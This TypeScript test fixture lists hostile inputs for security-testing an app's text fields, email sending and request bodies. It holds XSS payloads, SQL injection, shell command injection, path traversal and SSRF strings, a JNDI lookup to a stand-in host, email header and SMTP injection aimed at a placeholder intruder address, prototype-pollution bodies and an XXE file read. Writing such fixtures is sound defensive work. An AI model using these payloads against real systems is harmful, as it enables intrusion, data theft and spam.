/** A mailbox that must never receive an email. */
export const INTRUDER = 'intruder@elsewhere.example'

const HEADERS = ['Bcc', 'Cc', 'To', 'Reply-To', 'From', 'Subject', 'Content-Type', 'X-Anything']
const BREAKS = ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '\v', '\f', '%0d%0a', '\\r\\n', '=0D=0A', '\r\n\t']

const MARKUP = [
  '<script>window.hacked=1</script>',
  '"><script>window.hacked=1</script>',
  "'><img src=x onerror=window.hacked=1>",
  '<img src=x onerror="window.hacked=1">',
  '<svg onload=window.hacked=1>',
  '<svg><script>window.hacked=1</script></svg>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<a href="javascript:window.hacked=1">нажмите</a>',
  '<math><mtext><style><img src=x onerror=window.hacked=1></style></mtext></math>',
  '</textarea><script>window.hacked=1</script>',
  '</title><script>window.hacked=1</script>',
  '</script><script>window.hacked=1</script>',
  '<!--<script>window.hacked=1</script>-->',
  ']]><script>window.hacked=1</script>',
  '<body onload=window.hacked=1>',
  '<input autofocus onfocus=window.hacked=1>',
  '<details open ontoggle=window.hacked=1>',
  '<object data="data:text/html,<script>hacked=1</script>">',
  '<base href="https://elsewhere.example/">',
  '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">',
  '<form action="https://elsewhere.example/"><button>Отправить</button></form>',
  '<style>@import "https://elsewhere.example/x.css"</style>',
  '{{constructor.constructor("window.hacked=1")()}}',
  '\u0024{window.hacked=1}',
  '<%= 7*7 %>',
  'javascript:window.hacked=1',
  'data:text/html,<script>window.hacked=1</script>',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
  '\u003cscript\u003ewindow.hacked=1\u003c/script\u003e',
]

const SQL = [
  "' or '1'='1",
  "'; drop table agency; --",
  '"; drop table agency; --',
  '1); delete from review; --',
  "' union select email, phone from agency --",
  "\\'; select pg_sleep(10); --",
  '$$; drop table mail; $$',
  "'||(select version())||'",
  '%_%',
  "E'\\\\x00'",
  '1e309',
  "'::jsonb",
]

const TEMPLATES_AND_SHELLS = [
  '$(touch /tmp/hacked)',
  '`touch /tmp/hacked`',
  '; touch /tmp/hacked',
  '| touch /tmp/hacked',
  '%s%s%s%n',
  '#{7*7}',
  '\u0024{jndi:ldap://elsewhere.example/x}',
]

const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/passwd',
  'file:///etc/passwd',
  '//elsewhere.example/',
  '/\\elsewhere.example/',
  'http://127.0.0.1:22/',
  'http://[::1]/',
  'http://169.254.169.254/latest/meta-data/',
  'https://user:password@elsewhere.example/',
  'con.txt',
  '.htaccess',
]

const CHARACTERS = [
  '\u0000',
  'а\u0000б',
  '\ud800',
  'а\udc00б',
  '\ud83d\u0041',
  '\ufffe\uffff',
  '\u202eмое имя\u202c',
  '\u2066скрыто\u2069',
  '\u200b\u200c\u200d\u2060',
  '\ufeffимя',
  '\u00a0\u2003\u3000',
  '\u001b[2J\u001b[31mкрасное',
  '\b\b\b',
  'é'.normalize('NFD').repeat(50),
  `а${'\u0301'.repeat(200)}`,
  '𝕊𝕔𝕣𝕚𝕡𝕥',
  '👩‍👩‍👧‍👧'.repeat(10),
  'ﷺ'.repeat(20),
  'İıſK',
  'Ð½Ðµ ÑÐ° ÐºÐ¾Ð´Ð¸Ñ€Ð¾Ð²ÐºÐ°',
]

const EMAILS = [
  `anna@vetrova.example, ${INTRUDER}`,
  `anna@vetrova.example; ${INTRUDER}`,
  `anna@vetrova.example ${INTRUDER}`,
  `<anna@vetrova.example> <${INTRUDER}>`,
  `"anna@vetrova.example" <${INTRUDER}>`,
  `anna@vetrova.example%2c${INTRUDER}`,
  `anna@vetrova.example\u0000${INTRUDER}`,
  `${INTRUDER}>\r\nRCPT TO:<${INTRUDER}>`,
  `anna(${INTRUDER})@vetrova.example, ${INTRUDER}`,
  `group: ${INTRUDER};`,
  `\r\n.\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<${INTRUDER}>\r\nDATA\r\n`,
  `=?utf-8?q?anna?= <${INTRUDER}>`,
]

const HUGE = [
  'а'.repeat(8_001),
  '<'.repeat(7_000),
  '\n'.repeat(7_999),
  `${'a'.repeat(7_000)}@vetrova.example`,
  '9'.repeat(400),
]

const OBJECTS_AS_STRINGS = [
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '{"a":1}',
  'true',
]

/** Strings for any text field. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...MARKUP,
  ...SQL,
  ...TEMPLATES_AND_SHELLS,
  ...PATHS,
  ...CHARACTERS,
  ...EMAILS,
  ...HUGE,
  ...OBJECTS_AS_STRINGS,
  ...BREAKS.map(lineBreak => `Анна${lineBreak}Bcc: ${INTRUDER}`),
  ...HEADERS.map(header => `Анна\r\n${header}: ${INTRUDER}\r\n\r\nТело`),
]

/** One of each kind, for tests over a real connection. */
export const HOSTILE_SAMPLES: readonly string[] = [
  '<script>window.hacked=1</script>',
  '<a href="javascript:window.hacked=1">нажмите</a>',
  "'; drop table agency; --",
  '$(touch /tmp/hacked)',
  '../../../../etc/passwd',
  'а\u0000б',
  'а\udc00б',
  '\u202eмое имя\u202c',
  `anna@vetrova.example, ${INTRUDER}`,
  'а'.repeat(8_001),
  '__proto__',
  `Анна\r\nBcc: ${INTRUDER}`,
]

/** Values that are not strings. */
export const HOSTILE_VALUES: readonly unknown[] = [
  null,
  0,
  -1,
  1e308,
  true,
  [],
  {},
  [null],
  ['a', 'b'],
  { toString: 'x' },
  { $ne: null },
  { length: 1e9 },
  [[[[[[]]]]]],
]

/** Bodies that are not valid parameters. */
export const HOSTILE_BODIES: readonly string[] = [
  '',
  'null',
  '[]',
  '"text"',
  '1',
  '{',
  '{"a":',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '\u0000',
  '{"name":"\\ud800"}',
  '[[[[[[[[[[[[[[[[[[[[',
  `{"${'a'.repeat(5_000)}":1}`,
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
]
